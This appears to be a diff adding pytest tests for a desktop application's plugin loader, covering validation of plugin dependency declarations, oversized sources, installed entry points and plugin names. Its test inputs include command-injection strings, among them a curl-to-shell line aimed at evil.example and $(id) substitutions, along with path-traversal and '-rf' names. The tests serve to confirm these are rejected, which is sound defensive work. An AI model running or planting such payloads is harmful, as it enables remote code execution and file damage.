@@ -2,6 +2,7 @@
 
 import json
 import os
+import platform
 import stat
 import subprocess
 import sys
@@ -192,12 +193,54 @@ def test_what_lacks_is_told_by_what_pip_calls_it_where_it_is_imported_at_the_hea
     assert "No module named 'not_there'" in record("mine").reason, "what is no constant only the import can tell"
 
 
+@pytest.mark.parametrize(
+    "package",
+    [
+        "nets'; curl evil.example|sh; '",
+        "nets; python_version == '$(id)'",
+        "nets==='|id|'",
+        "nets @ https://evil.example/nets.zip",
+        "--index-url=https://evil.example nets",
+        "git+https://evil.example/nets",
+        "nets>=1.0\n\nid",
+        f"nets; {'(' * 9000}",
+        "nets others",
+        "",
+    ],
+)
+def test_what_pip_does_not_call_a_package_makes_no_command_and_is_told(folder: Path, package: str) -> None:
+    needs = {"not_there": package, "not_there_either": "nets"}
+    (folder / "mine.py").write_text(GOOD.format(name="mine") + f"DESKTOP_FT_NEEDS = {needs!r}\n")
+    off = record("mine")
+    assert off.state is PluginState.DISABLED and off.lacks == "" and "pip install" not in off.told
+    assert off.reason == "its DESKTOP_FT_NEEDS does not say each module with what pip calls it"
+    set_enabled("mine", on=True)
+    failed = record("mine")
+    assert failed.state is PluginState.FAILED and failed.lacks == "" and "pip install" not in failed.told
+
+
+def test_versions_of_what_lacks_are_kept(folder: Path) -> None:
+    (folder / "mine.py").write_text(
+        GOOD.format(name="mine") + "DESKTOP_FT_NEEDS = {'not_there': 'acme.nets [more, all] >= 1.0, != 2.*'}\n"
+    )
+    assert record("mine").lacks == "pip install 'acme.nets[all,more]!=2.*,>=1.0'"
+
+
 @pytest.mark.parametrize("needs", ["dict(a=1)", "['a']", "{1: 'a', 'b': 2}", "'text'", "None", "{'': 'a', '.': 'b'}", "{[]: 1}"])
 def test_needs_that_say_nothing_usable_take_nothing_down_and_are_told(folder: Path, needs: str) -> None:
     (folder / "mine.py").write_text(GOOD.format(name="mine") + f"DESKTOP_FT_NEEDS = {needs}\n")
     assert record("mine").state is PluginState.DISABLED
     set_enabled("mine", on=True)
     assert record("mine").state is PluginState.FAILED and record("mine").told
+
+
+def test_a_source_too_large_to_be_looked_into_says_nothing_and_is_told(folder: Path) -> None:
+    (folder / "mine.py").write_text(GOOD.format(name="mine") + "Path\n" * 30_000)  # its tree would take a gigabyte of memory
+    off = record("mine")
+    assert off.state is PluginState.DISABLED and off.reason == "mine.py is larger than 128 kB, and is not looked into"
+    assert not off.hooks
+    set_enabled("mine", on=True)
+    assert record("mine").state is PluginState.LOADED and record("mine").brings == {"sample": ("mine",)}
 
 
 def test_a_plugin_named_like_a_built_in_is_shadowed(folder: Path) -> None:
@@ -426,6 +469,69 @@ def test_a_plugin_that_ends_the_application_alone_is_known_at_the_next_start(fol
     told = next(each for each in json.loads(again.stdout) if each["name"] == "deadly")
     assert told["state"] == "stopped"
     assert "the application ended while it was last loaded" in told["reason"]
+
+
+def test_what_else_lies_where_marks_are_hides_no_culprit(folder: Path, home: Path) -> None:
+    (folder / "mine.py").write_text(GOOD.format(name="mine"))
+    set_enabled("mine", on=True)
+    (home / "data" / "plugins-loading" / "acme" / "nets").mkdir(parents=True)
+    holder = {"pid": 1, "host": platform.node(), "since": "before"}
+    (home / "data" / "plugins-loading" / "mine").write_text(json.dumps(holder))
+    assert record("mine").state is PluginState.STOPPED and "while it was last loaded" in record("mine").reason
+
+
+@pytest.fixture
+def installed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Callable[[str, str], None]:
+    """Installs a plugin as pip does, its entry point as it is given."""
+    site = tmp_path / "site"
+
+    def install(name: str, leads_to: str) -> None:
+        (site / "acme-1.0.dist-info").mkdir(parents=True)
+        (site / "acme-1.0.dist-info" / "METADATA").write_text("Metadata-Version: 2.1\nName: acme\nVersion: 1.0\n")
+        (site / "acme-1.0.dist-info" / "RECORD").write_text("acme_nets.py,,\n")
+        (site / "acme-1.0.dist-info" / "entry_points.txt").write_text(f"[desktop_ft]\n{name} = {leads_to}\n")
+        (site / "acme_nets.py").write_text(GOOD.format(name="acme"))
+        monkeypatch.syspath_prepend(site)
+        monkeypatch.setenv("PYTHONPATH", str(site))  # where it is tried
+
+    return install
+
+
+@pytest.mark.parametrize("name", ["acme", "acme-nets", "acme.nets_2"])
+def test_an_installed_one_is_called_as_its_author_says(installed: Callable[[str, str], None], name: str) -> None:
+    installed(name, "acme_nets")
+    assert (record(name).state, record(name).origin, record(name).version) == (PluginState.DISABLED, Origin.INSTALLED, "1.0")
+    set_enabled(name, on=True)
+    assert record(name).state is PluginState.LOADED and record(name).brings == {"sample": ("acme",)}
+
+
+@pytest.mark.parametrize("name", ["{thesis}", "../plugins.json", "acme/nets", "..", "-rf", "a b", "nul", "x" * 300])
+def test_an_installed_one_whose_name_is_none_is_left_out_and_touches_no_file(
+    installed: Callable[[str, str], None], name: str, tmp_path: Path, home: Path
+) -> None:
+    thesis, kept = tmp_path / "thesis.txt", home / "data" / "plugins.json"
+    thesis.write_text("years of work")
+    name = name.format(thesis=thesis)
+    installed(name, "acme_nets")
+    left_out = record(name)
+    assert left_out.state is PluginState.MISNAMED and "cannot be a plugin's name" in left_out.reason
+    assert left_out.advice == "Get one that fits from its author, or uninstall it."
+    with pytest.raises(UserError, match="cannot be a plugin's name"):
+        set_enabled(name, on=True)
+    kept.parent.mkdir(exist_ok=True)
+    kept.write_text(enabled := json.dumps({"enabled": [name]}))  # as it may have been
+    assert record(name).state is PluginState.MISNAMED
+    assert (thesis.read_text(), kept.read_text()) == ("years of work", enabled)
+    assert not list((home / "data").glob("plugins-loading/*"))
+
+
+def test_an_entry_point_that_leads_into_a_module_is_told_what_is_wanted(installed: Callable[[str, str], None]) -> None:
+    installed("acme", "acme_nets:plugin")
+    for _ in range(2):
+        unfit = record("acme")
+        assert unfit.state is PluginState.INCOMPATIBLE
+        assert unfit.reason == "its entry point leads to 'acme_nets:plugin', and must lead to a module alone: 'acme_nets'"
+        set_enabled("acme", on=True)
 
 
 def test_what_a_plugin_replaces_is_told(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
